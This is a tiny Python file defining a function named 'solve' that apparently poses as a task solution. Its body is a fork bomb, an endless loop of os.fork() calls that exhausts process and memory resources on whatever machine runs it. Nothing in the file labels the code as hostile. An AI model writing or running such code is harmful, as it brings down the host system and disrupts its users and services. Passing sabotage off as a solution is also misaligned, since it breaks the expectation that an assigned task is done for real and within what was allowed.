import os


def solve(x):
    while True:
        os.fork()
